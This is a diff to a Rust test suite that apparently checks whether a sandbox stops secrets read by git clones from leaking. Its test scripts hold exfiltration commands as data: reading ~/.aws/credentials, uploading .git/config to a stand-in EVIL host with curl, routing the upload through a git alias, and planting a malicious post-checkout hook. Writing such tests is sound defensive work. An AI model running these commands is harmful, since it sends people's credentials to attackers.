@@ -164,7 +164,7 @@ fn who_holds_something_else_is_not_believed() -> Result {
 }
 
 fn clone(host: &str, how: &str) -> String {
-    format!("cd /tmp && git {how} clone -q http://{host}:{PORT}/app.git \"$HOME/app\" > /dev/null 2>&1; cd; ")
+    format!("cd /tmp && git clone -q {how} http://{host}:{PORT}/app.git \"$HOME/app\" > /dev/null 2>&1; cd; ")
 }
 
 /// What a clone has just written it reads back, to ask the remote that it was told: no secret is in that yet.
@@ -185,18 +185,22 @@ fn a_clone_goes_where_it_is_told() -> Result {
 fn others_read_what_a_clone_wrote() -> Result {
     let ours = format!("{CHECKED_OUT}{}", remote(FORGE));
     let send = format!("curl -s -T .git/config http://{EVIL}:{PORT}/");
+    let hook = format!(
+        "mkdir -p t/hooks; printf '#!/bin/sh\\ncd \"$GIT_DIR/..\"; {send}\\n' > t/hooks/post-checkout; \
+         chmod +x t/hooks/post-checkout; rm -rf .git; {ours}git add -A; git -c user.name=x -c user.email=x@x.test \
+         commit -qm x --allow-empty; "
+    );
+    let told = "-c http.extraheader=\"Authorization: basic $TOKEN\"";
     for script in [
         // Told the secret, it asks for nothing that does not accept it.
         format!("key=$(tail -1 ~/.aws/credentials); {}", clone(EVIL, "-c http.extraheader=\"$key\"")),
         format!("rm -rf .git; {ours}{send}; "),
         // A child of git, which did not write it.
         format!("rm -rf .git; {ours}git -c alias.x='!{send}' x; "),
-        // A child of the one that wrote it, which has read another since.
-        format!(
-            "mkdir -p t/hooks; printf '#!/bin/sh\\ncd \"$GIT_DIR/..\"; {send}\\n' > t/hooks/post-checkout; \
-             chmod +x t/hooks/post-checkout; rm -rf .git; {ours}git add -A; git -c user.name=x -c user.email=x@x.test \
-             commit -qm x --allow-empty; git clone -q --template=t -c http.extraheader=\"$(git config http.extraheader)\" . y; "
-        ),
+        // A child of the one that wrote it, which is no git.
+        format!("{hook}git clone -q --template=t {told} . y; "),
+        // What git wrote and read back, under another name.
+        format!("rm -rf .git; {ours}git clone -q {told} . y; mv y/.git/config z; curl -s -T z http://{EVIL}:{PORT}/; "),
     ] {
         let scene = Scene::new()?;
         std::fs::remove_file(scene.home.path().join(".netrc"))?;
